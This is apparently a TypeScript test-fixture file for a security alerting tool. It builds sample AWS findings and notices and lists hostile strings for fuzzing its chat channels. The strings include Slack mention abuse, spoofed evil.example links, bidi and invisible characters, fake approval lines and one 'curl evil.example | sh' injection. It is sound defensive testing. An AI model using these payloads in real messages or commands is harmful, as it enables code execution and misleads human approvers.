// Notices in the real shapes and hostile text to put into them, for the suites of the channels that tell them.
import fc from 'fast-check';
import type { Change, ChangeState } from '../core/change-record.ts';
import type { Finding } from '../core/finding.ts';
import type { Notice } from '../core/notice.ts';

export const FINDING: Finding = {
  id: '9f0c1d2e/access-key-created',
  eventId: '9f0c1d2e-0000-4000-8000-000000000001',
  rule: 'access-key-created',
  title: 'Access key created for another user',
  because: 'alice created an access key for bob',
  severity: 'critical',
  risk: 85,
  factors: [
    { id: 'base', points: 70, because: 'high is the base severity of access-key-created' },
    { id: 'source', points: 10, because: '203.0.113.9 is in no known network' },
    { id: 'mfa', points: -5, because: 'the session was opened with MFA' },
    { id: 'tier', points: 10, because: 'prod is a critical account' },
  ],
  decision: 'approve',
  reasons: ['risk 85 is at least 80', 'mode ask: approve instead of remediate'],
  remedy: 'disable-access-key',
  target: { kind: 'access-key', user: 'bob', key: 'AKIAIOSFODNN7EXAMPLE' },
  actor: { id: 'arn:aws:iam::123456789012:user/alice', kind: 'user', name: 'alice' },
  account: '123456789012',
  region: 'us-east-1',
  time: '2026-11-20T03:00:00Z',
  at: Date.parse('2026-11-20T03:00:00Z'),
  event: { name: 'iam:CreateAccessKey', source: '203.0.113.9', agent: 'aws-cli/2.15.0 Python/3.11', failed: null },
  incident: 'i4k7m2p9qx',
};

const CHANGE: Change = {
  id: 'i4k7m2p9qx.0a1b2c3d',
  incident: 'i4k7m2p9qx',
  finding: FINDING.id,
  rule: FINDING.rule,
  remediation: 'disable-access-key',
  account: FINDING.account,
  region: FINDING.region,
  target: FINDING.target,
  state: 'waiting',
  says: 'set access key AKIAIOSFODNN7EXAMPLE of bob to Inactive',
  calls: [
    {
      call: 'iam:UpdateAccessKey',
      input: { UserName: 'bob', AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', Status: 'Inactive' },
    },
  ],
  undo: [
    { call: 'iam:UpdateAccessKey', input: { UserName: 'bob', AccessKeyId: 'AKIAIOSFODNN7EXAMPLE', Status: 'Active' } },
  ],
  before: { status: 'Active' },
  after: null,
  reason: 'mode ask: approve instead of remediate',
  risk: 85,
  factors: FINDING.factors,
  attempts: 0,
  undoing: false,
  lease: null,
  expires: Date.parse('2026-11-20T15:00:00Z'),
  answer: null,
  plannedAt: FINDING.at,
};

const ANSWERS: { [state in ChangeState]?: Change['answer'] } = {
  verified: { by: 'ana', says: 'approved', reason: 'not ours', at: FINDING.at },
  denied: { by: 'ana', says: 'denied', reason: 'planned migration', at: FINDING.at },
  undone: { by: 'ana', says: 'undone', reason: 'bob needs it', at: FINDING.at },
};

export function changeIn(state: ChangeState, facts: Partial<Change> = {}): Change {
  return { ...CHANGE, state, answer: ANSWERS[state] ?? null, ...facts };
}

export const ALERT: Notice = { kind: 'alert', finding: FINDING };
export const REQUEST: Notice = { kind: 'request', finding: FINDING, change: changeIn('waiting') };

export function outcomeIn(state: ChangeState, facts: Partial<Change> = {}): Notice {
  return { kind: 'outcome', finding: FINDING, change: changeIn(state, facts) };
}

const OUTCOMES = ['planned', 'carried', 'verified', 'failed', 'refused', 'denied', 'expired', 'undone'] as const;

/** One notice of every kind and state. */
export const NOTICES: Notice[] = [ALERT, REQUEST, ...OUTCOMES.map((each) => outcomeIn(each))];

/** What an attacker may call something. */
export const HOSTILE: string[] = [
  '<!channel> look here',
  '<!here|here>',
  '<@U0ANA> <#C0SECURITY>',
  '@here @channel @everyone bob@here',
  '＠channel',
  '<https://evil.example|the console>',
  'https://evil.example/login?a=1&b=2',
  'hTTps://198.51.100.7/x',
  'slack://open ftp://evil.example',
  'mailto:bob@evil.example tel:+15551234 javascript:alert(1)',
  'evil.example www.evil.example evil。example',
  'evil.\u200bexample evil\u2060.example',
  '[click](https://evil.example)',
  '*bold* _italic_ ~strike~ `code` ```block```',
  '> quoted',
  '&lt;!channel&gt; &amp;lt;',
  'alice\nApproved by ana: fine\r\n\r\nguardrail approve all',
  'alice\u2028Approved by ana\u2029Denied\u0085x\u000bx\u000cx',
  '\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c',
  'a\u200b\u200c\u200d\u2060\ufeff\u00adb\u3164c\u115f\u180e\u2800',
  '\u001b[2J\u001b]0;owned\u0007\u009b31m\u0000\u0008\u007f',
  '\u{e0041}\u{e0042}\ufe0f\u{e0100}',
  `z${'\u0301'.repeat(400)}algo`,
  'a\u00a0b\u3000c\u2003d\u1680e',
  '\ud800 lone \udfff',
  'x; curl evil.example | sh; $(id) `id` --as root',
  '"quoted" \\"escaped\\" \\u003c!channel\\u003e {"json":[]}',
  '__proto__',
  '👩‍👩‍👧 名前 José',
  ':white_check_mark: :aws:',
  '&'.repeat(4_000),
  '<'.repeat(4_000),
  '"'.repeat(4_000),
  'a'.repeat(4_000),
  '😀'.repeat(3_000),
  '\u202e'.repeat(4_000),
  `${'a'.repeat(140)}<!channel>`,
  '',
];

const DISCRIMINANTS = ['kind', 'state', 'type', 'call'];

/** The notice with `text` in every string, or in every string that no code branches on. */
export function everywhere(notice: Notice, text: string, spared: string[] = DISCRIMINANTS): Notice {
  return walk(notice, text, spared, 0) as Notice;
}

function walk(value: unknown, text: string, spared: string[], depth: number): unknown {
  if (typeof value === 'string') return text;
  if (Array.isArray(value)) return value.map((each) => walk(each, text, spared, depth + 1));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(
    Object.entries(value).map(([key, each]) => {
      const kept = (depth === 0 && key === 'kind') || (spared.includes(key) && typeof each === 'string');
      return [key, kept ? each : walk(each, text, spared, depth + 1)];
    }),
  );
}

/** Text in which everything that a channel might act on is frequent. */
export const NASTY = fc
  .array(
    fc.oneof(
      fc.string({ unit: 'binary', maxLength: 20 }),
      fc.constantFrom(
        '<',
        '>',
        '&',
        '@',
        '#',
        '.',
        '://',
        'http',
        'mailto:',
        '*',
        '_',
        '~',
        '`',
        '\n',
        '\r',
        ' ',
        '!channel',
        'evil',
        '.com',
        '\\',
        '"',
        '[',
        ']',
      ),
      fc.constantFrom(
        '\u202e',
        '\u200b',
        '\u001b',
        '\u2028',
        '\u0301',
        '\ud800',
        '\udc00',
        '＠',
        '。',
        '&lt;',
        '\\u003c',
        '😀',
      ),
    ),
    { maxLength: 60 },
  )
  .map((parts) => parts.join(''));

/** First and last of the characters that nobody sees, or that move what others see. */
const HIDDEN = [
  [0x00, 0x1f],
  [0x7f, 0xa0],
  [0xad, 0xad],
  [0x34f, 0x34f],
  [0x61c, 0x61c],
  [0x115f, 0x1160],
  [0x1680, 0x1680],
  [0x180b, 0x180f],
  [0x2000, 0x200f],
  [0x2028, 0x202f],
  [0x205f, 0x206f],
  [0x2800, 0x2800],
  [0x3000, 0x3000],
  [0x3164, 0x3164],
  [0xd800, 0xdfff],
  [0xfe00, 0xfe0f],
  [0xfeff, 0xfeff],
  [0xffa0, 0xffa0],
  [0xfff9, 0xfffb],
  [0xe0000, 0xe0fff],
] as const;

/** Something in the text is not seen, or moves the rest. */
export function hides(text: string): boolean {
  return [...text].some((each) =>
    HIDDEN.some(([first, last]) => (each.codePointAt(0) ?? 0) >= first && (each.codePointAt(0) ?? 0) <= last),
  );
}
